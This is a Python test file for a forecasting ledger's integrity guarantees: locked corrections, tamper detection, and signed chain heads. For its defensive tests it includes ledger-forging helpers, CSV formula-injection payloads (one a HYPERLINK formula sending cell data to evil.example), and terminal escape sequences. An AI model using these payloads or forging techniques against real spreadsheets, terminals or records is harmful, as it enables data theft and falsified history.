"""The ledger's promises against a careless or hostile user (issue 14): corrections cannot
rewrite the past, the live path cannot pass for history, ``verify`` names rows with a valid
hash but an impossible time, and a saved (or signed) head anchors the chain.  Every test runs
on a DuckDB file and on the team ledger."""

from __future__ import annotations

import time
from datetime import datetime, timedelta

import pandas as pd
import pytest

from forecasts import domain
from forecasts.errors import ImportRejected, InvalidInput, QuestionClosed
from forecasts.ledger import integrity, rules
from forecasts.ledger.migrations import COLUMNS

KEY = b"team-key-kept-outside-the-ledger"


@pytest.fixture
def no_grace(monkeypatch):
    """A zero-length grace period: every amendment is late (the rule is the same at 10 minutes)."""
    monkeypatch.setattr(rules, "CORRECTION_GRACE", timedelta(0))


def _brier(p: float, outcome: float) -> float:
    return (p - outcome) ** 2


# ---------------------------------------------------------------------- corrections
def test_a_correction_after_the_close_cannot_rewrite_the_score(ledger, snapshot):
    """Alice's 30% on a question that closed; a 'correction' to 99% before it resolves YES."""
    closes = domain.now() + timedelta(seconds=1.5)
    ledger.add_question("vote", title="Will the vote pass?", closes=closes)
    row = ledger.log("vote", 0.3, by="alice")
    time.sleep(max(0.0, (closes - domain.now()).total_seconds()) + 0.3)
    before = snapshot(ledger)
    with pytest.raises(QuestionClosed, match="closed"):
        ledger.correct(row["seq"], 0.99, by="alice")
    with pytest.raises(QuestionClosed, match="closed"):
        ledger.retract(row["seq"], by="alice")
    assert snapshot(ledger) == before
    ledger.resolve("vote", "yes")
    (p,) = ledger.forecasts()["probability"]
    assert _brier(p, 1.0) == pytest.approx(0.49)


def test_a_late_correction_is_refused_and_says_to_log_anew(ledger, open_question, no_grace, snapshot):
    row = ledger.log("rain", 0.3, by="alice")
    before = snapshot(ledger)
    with pytest.raises(InvalidInput, match="log a new forecast"):
        ledger.correct(row["seq"], 0.99, by="alice")
    assert snapshot(ledger) == before
    assert list(ledger.forecasts()["probability"]) == [0.3]


def test_the_grace_period_is_ten_minutes():
    assert rules.CORRECTION_GRACE == timedelta(minutes=10)


def test_a_correction_within_the_grace_period_applies_from_the_original_time(ledger, open_question):
    row = ledger.log("rain", 0.3, by="alice")
    fix = ledger.correct(row["seq"], 0.35, by="alice")
    assert fix["made_at"] == row["made_at"]
    (f,) = ledger.forecasts().itertuples()
    assert f.probability == 0.35 and pd.isna(f.ended_at)


def test_a_late_retraction_only_ends_the_forecast_from_its_own_time(ledger, open_question, no_grace):
    row = ledger.log("rain", 0.3, by="alice")
    time.sleep(0.01)
    between = domain.now()
    time.sleep(0.01)
    gone = ledger.retract(row["seq"], by="alice", why="changed my mind")
    assert gone["made_at"] > row["made_at"]  # stamped now, not at the original's time
    now = ledger.forecasts()
    assert list(now["seq"]) == [row["seq"]] and now["probability"].iloc[0] == 0.3  # it stood: still scored
    assert now["ended_at"].iloc[0] == pd.Timestamp(gone["made_at"])
    then = ledger.forecasts(as_of=between)
    assert list(then["seq"]) == [row["seq"]] and pd.isna(then["ended_at"].iloc[0])
    ledger.resolve("rain", "yes")
    assert _brier(ledger.forecasts()["probability"].iloc[0], 1.0) == pytest.approx(0.49)
    assert ledger.verify().ok
    # scored only while it stood: the holding ends at the retraction, not at the resolution
    from forecasts.scoring import holding_table

    held, _ = holding_table(ledger.forecasts(), ledger.questions(), ledger.resolutions())
    assert held["end"].iloc[0] == pd.Timestamp(gone["made_at"])


def test_a_retraction_within_the_grace_period_removes_the_forecast(ledger, open_question):
    row = ledger.log("rain", 0.3, by="alice")
    ledger.retract(row["seq"], by="alice")
    assert ledger.forecasts().empty


def test_imported_rows_are_not_corrected_on_the_live_path(ledger, snapshot):
    ledger.add_question("rain", title="Will it rain?", opens="2020-01-01", closes="2300-01-01")
    ledger.import_history(forecasts=[{"question": "rain", "forecaster": "alice", "probability": 0.3,
                                      "made_at": "2021-01-01"}], source="import:gjp")
    (seq,) = ledger.forecasts()["seq"]
    before = snapshot(ledger)
    for amend in (lambda: ledger.correct(seq, 0.9, by="alice"), lambda: ledger.retract(seq, by="alice")):
        with pytest.raises(InvalidInput, match="imported"):
            amend()
    assert snapshot(ledger) == before


@pytest.mark.parametrize("source", ["backtest:x", "import:x", "model:x", "demo:x"])
def test_the_live_path_refuses_history_sources(ledger, open_question, snapshot, source):
    before = snapshot(ledger)
    with pytest.raises(InvalidInput, match="history"):
        ledger.log("rain", 0.3, by="alice", source=source)
    assert snapshot(ledger) == before


# ---------------------------------------------------------------------- verify re-checks the rules
def _forge(ledger, raw_sql, table: str, **values) -> int:
    """Append a row with a correct hash past the tool, as anyone knowing the algorithm could."""
    seq, prev = ledger.storage.head()
    row = {c: None for c in COLUMNS[table]}
    row.update(seq=seq, **values)
    row["hash"] = integrity.row_hash(prev, table, {k: v for k, v in row.items() if k != "hash"})
    row["prev_hash"] = prev
    cols = [*COLUMNS[table], "prev_hash", "hash"]
    raw_sql(ledger, f"INSERT INTO {table} ({', '.join(cols)}) VALUES ({', '.join('?' for _ in cols)})",
            [row[c] for c in cols])
    return seq


def _forecast(**values):
    base = {"question": "rain", "forecaster": "mallory", "probability": 0.9, "source": "cli",
            "backtest": False, "retracted": False}
    return {**base, **values}


def test_verify_names_a_backdated_live_forecast_with_a_valid_hash(ledger, open_question, raw_sql):
    ledger.log("rain", 0.3, by="alice")
    now = domain.now()
    seq = _forge(ledger, raw_sql, "forecasts", **_forecast(made_at=now - timedelta(days=30), recorded_at=now))
    result = ledger.verify()
    assert not result.ok and (result.table, result.seq) == ("forecasts", seq)
    assert "backdated" in result.problem


def test_verify_names_a_resolution_dated_after_it_was_recorded(ledger, open_question, raw_sql):
    now = domain.now()
    seq = _forge(ledger, raw_sql, "resolutions", question="rain", outcome="yes", resolved_by="mallory",
                 source="cli", resolved_at=now + timedelta(days=3), recorded_at=now)
    result = ledger.verify()
    assert not result.ok and (result.table, result.seq) == ("resolutions", seq)
    assert "in the future" in result.problem


def test_verify_names_a_retroactive_correction_past_the_grace_period(ledger, open_question, raw_sql):
    row = ledger.log("rain", 0.3, by="alice")
    later = domain.now() + timedelta(hours=1)  # as if recorded an hour later, rewriting the original
    seq = _forge(ledger, raw_sql, "forecasts", **_forecast(forecaster="alice", made_at=row["made_at"],
                                                           recorded_at=later, corrects=row["seq"]))
    result = ledger.verify()
    assert not result.ok and result.seq == seq and "grace period" in result.problem
    assert list(ledger.forecasts(as_of=later)["probability"]) == [0.3]  # and reads ignore it


def test_verify_names_a_correction_recorded_after_the_question_was_resolved(ledger, open_question, raw_sql):
    """Alice's 30%, resolved YES; a 'correction' to 99% within the grace period, written past
    the tool: the hash is right, the time is not (forecasts on a resolved question are final)."""
    row = ledger.log("rain", 0.3, by="alice")
    ledger.resolve("rain", "yes")
    assert ledger.verify().ok
    seq = _forge(ledger, raw_sql, "forecasts", **_forecast(forecaster="alice", made_at=row["made_at"],
                                                           recorded_at=domain.now(), corrects=row["seq"]))
    result = ledger.verify()
    assert not result.ok and result.seq == seq and "resolved" in result.problem


def test_verify_names_a_retraction_recorded_after_the_question_closed(ledger, raw_sql):
    closes = domain.now() + timedelta(seconds=1)
    ledger.add_question("vote", title="Will the vote pass?", closes=closes)
    row = ledger.log("vote", 0.3, by="alice")
    time.sleep(max(0.0, (closes - domain.now()).total_seconds()) + 0.2)
    now = domain.now()
    seq = _forge(ledger, raw_sql, "forecasts", **_forecast(question="vote", forecaster="alice", made_at=now,
                                                           recorded_at=now, corrects=row["seq"], retracted=True))
    result = ledger.verify()
    assert not result.ok and result.seq == seq and "closed" in result.problem


def test_verify_passes_the_tools_own_amendments(ledger, open_question, monkeypatch):
    a = ledger.log("rain", 0.3, by="alice")
    b = ledger.log("rain", 0.4, by="bob")
    ledger.correct(a["seq"], 0.35, by="alice")
    monkeypatch.setattr(rules, "CORRECTION_GRACE", timedelta(0))
    ledger.retract(b["seq"], by="bob")
    monkeypatch.undo()
    assert ledger.verify().ok


# ---------------------------------------------------------------------- the head
def _rehash_all(ledger, raw_sql, table: str, seq: int, column: str, value) -> None:
    """Rewrite one row and rehash the whole chain after it: a chain that verifies on its own."""
    rows = list(ledger.storage.chain())
    prev = integrity.GENESIS
    for t, cols, values in rows:
        row = dict(zip(cols, values, strict=True))
        if t == table and row["seq"] == seq:
            row[column] = value
            raw_sql(ledger, f"UPDATE {t} SET {column} = ? WHERE seq = ?", [value, seq])
        new = integrity.row_hash(prev, t, row)
        if new != row["hash"] or prev != row["prev_hash"]:
            raw_sql(ledger, f"UPDATE {t} SET prev_hash = ?, hash = ? WHERE seq = ?", [prev, new, row["seq"]])
            if "tag" in cols:  # a DuckDB ledger stores each row's tag too: the forger rewrites it
                raw_sql(ledger, f"UPDATE {t} SET tag = ? WHERE seq = ?", [integrity.tag_of(new), row["seq"]])
        prev = new


def test_head_reports_rows_appended_after_it(ledger, open_question):
    ledger.log("rain", 0.3, by="alice")
    first = ledger.verify()
    anchor = f"{first.rows}:{first.head}"
    ledger.log("rain", 0.4, by="bob")
    ledger.log("rain", 0.5, by="carol")
    result = ledger.verify(anchor)
    assert result.ok and result.anchored_at == first.rows and result.appended == 2


def test_head_at_another_position_fails(ledger, open_question):
    ledger.log("rain", 0.3, by="alice")
    first = ledger.verify()
    result = ledger.verify(f"{first.rows + 1}:{first.head}")
    assert not result.ok and "not at seq" in result.problem


def test_a_rehashed_chain_passes_alone_but_not_through_the_saved_head(ledger, open_question, raw_sql):
    ledger.log("rain", 0.3, by="alice")
    ledger.log("rain", 0.6, by="bob")
    saved = ledger.verify()
    _rehash_all(ledger, raw_sql, "forecasts", 2, "probability", 0.99)
    forged = ledger.verify()
    assert forged.ok and forged.head != saved.head  # anyone knowing the algorithm can do this ...
    caught = ledger.verify(f"{saved.rows}:{saved.head}")
    assert not caught.ok and "not in the ledger" in caught.problem  # ... and the saved head exposes it


def test_a_signed_head_cannot_be_forged_without_the_key(ledger, open_question, raw_sql):
    ledger.log("rain", 0.3, by="alice")
    signed = ledger.verify(key=KEY).signed_head
    assert signed is not None and ledger.verify(signed, key=KEY).ok
    _rehash_all(ledger, raw_sql, "forecasts", 2, "probability", 0.99)
    forged = ledger.verify()
    assert not ledger.verify(signed, key=KEY).ok  # the rewrite does not pass through the signed head
    own = integrity.sign_head(b"a-forger-guessing-the-key", forged.rows, forged.head)
    bad = ledger.verify(own, key=KEY)
    assert not bad.ok and "signature" in bad.problem
    unsigned = ledger.verify(f"{forged.rows}:{forged.head}", key=KEY)
    assert not unsigned.ok and "not signed" in unsigned.problem
    with pytest.raises(InvalidInput, match="16 bytes"):
        ledger.verify(key=b"short")


def test_cli_verify_head_and_key_file(ledger, open_question, cli, tmp_path, monkeypatch):
    ledger.log("rain", 0.3, by="alice")
    key = tmp_path / "team.key"
    key.write_bytes(KEY + b"\n")
    ok = cli("verify", "--key-file", str(key))
    assert ok.returncode == 0, ok.stderr
    signed = ok.stdout.split("signed head ")[1].split()[0]
    ledger.log("rain", 0.4, by="bob")
    monkeypatch.setenv("FORECASTS_KEY_FILE", str(key))
    again = cli("verify", "--head", signed)
    assert again.returncode == 0, again.stderr
    assert "1 rows appended after it (seq 3..3)" in again.stdout
    wrong = tmp_path / "other.key"
    wrong.write_bytes(b"x" * 32)
    bad = cli("verify", "--head", signed, "--key-file", str(wrong))
    assert bad.returncode == 1 and "signature" in bad.stderr
    junk = cli("verify", "--head", "nonsense")
    assert junk.returncode != 0 and "SEQ:HASH" in junk.stderr


# ---------------------------------------------------------------------- output that cannot hurt
DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-3", "@SUM(A1)", "'quoted already"]


def test_csv_export_neutralises_formulas_and_restores_the_original_text(ledger, tmp_path):
    import csv

    from forecasts.ledger import Ledger

    ledger.add_question("rain", title="=1+1 rain?", closes="2300-01-01")
    for i, why in enumerate(DANGEROUS):
        ledger.log("rain", 0.3 + i / 100, by=f"f{i}", why=why)
    ledger.add_event("-2 dead", on="2020-01-01", goldstein=-5)
    files = ledger.export(tmp_path / "csv", "csv")
    with files["forecasts"].open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    cells = [r["rationale"] for r in rows]
    assert cells == ["'" + w for w in DANGEROUS]  # no cell starts with a formula character
    assert [float(r["probability"]) for r in rows] == [0.3 + i / 100 for i in range(len(DANGEROUS))]  # numbers stay numbers
    with files["events"].open(newline="") as fh:
        (event,) = csv.DictReader(fh)
    assert event["title"] == "'-2 dead" and float(event["goldstein"]) == -5.0
    fresh = Ledger.open(tmp_path / "restored.duckdb", create=True)
    fresh.restore(tmp_path / "csv")
    assert fresh.verify().head == ledger.verify().head  # lossless: every hash matches
    assert list(fresh.forecasts()["rationale"]) == DANGEROUS
    assert fresh.questions()["title"].iloc[0] == "=1+1 rain?"


ESCAPES = "\x1b]0;pwned\x07\x1b[2J"


def test_escape_sequences_are_refused_on_input(ledger, open_question, cli, snapshot):
    before = snapshot(ledger)
    for args in (("log", "rain", "30%", "--why", f"fine {ESCAPES}"),
                 ("question", "add", "evil", "--title", f"Evil {ESCAPES}", "--closes", "2300-01-01")):
        result = cli(*args)
        assert result.returncode == 2 and "control character" in result.stderr, args
        assert "\x1b" not in result.stderr
    assert snapshot(ledger) == before


def test_escape_sequences_are_refused_in_imported_text(ledger, snapshot):
    """The import path keeps the rule of the live path (domain.optional_text): a rationale
    holding an escape sequence is refused, naming its line."""
    ledger.add_question("rain", title="Will it rain?", opens="2020-01-01", closes="2300-01-01")
    before = snapshot(ledger)
    with pytest.raises(ImportRejected, match="line 2: rationale contains the control character"):
        ledger.import_forecast_frame(pd.DataFrame([{"question": "rain", "forecaster": "alice", "probability": 0.3,
                                                    "made_at": "2021-01-01", "rationale": f"{ESCAPES} gotcha"}]),
                                     source="import:x")
    assert snapshot(ledger) == before


def test_escape_sequences_already_in_a_ledger_are_printed_harmlessly(ledger, cli, raw_sql):
    """Text written before the rule, or past the tool, is written out visibly, never raw."""
    ledger.add_question("rain", title="Will it rain?", opens="2020-01-01", closes="2300-01-01")
    _forge(ledger, raw_sql, "forecasts", **_forecast(made_at=datetime(2021, 1, 1), rationale=f"{ESCAPES} gotcha",
                                                     source="import:x", recorded_at=ledger.storage.now()))
    shown = cli("history", "rain")
    assert shown.returncode == 0
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout
    assert "\\x1b[2J" in shown.stdout  # written out, visibly
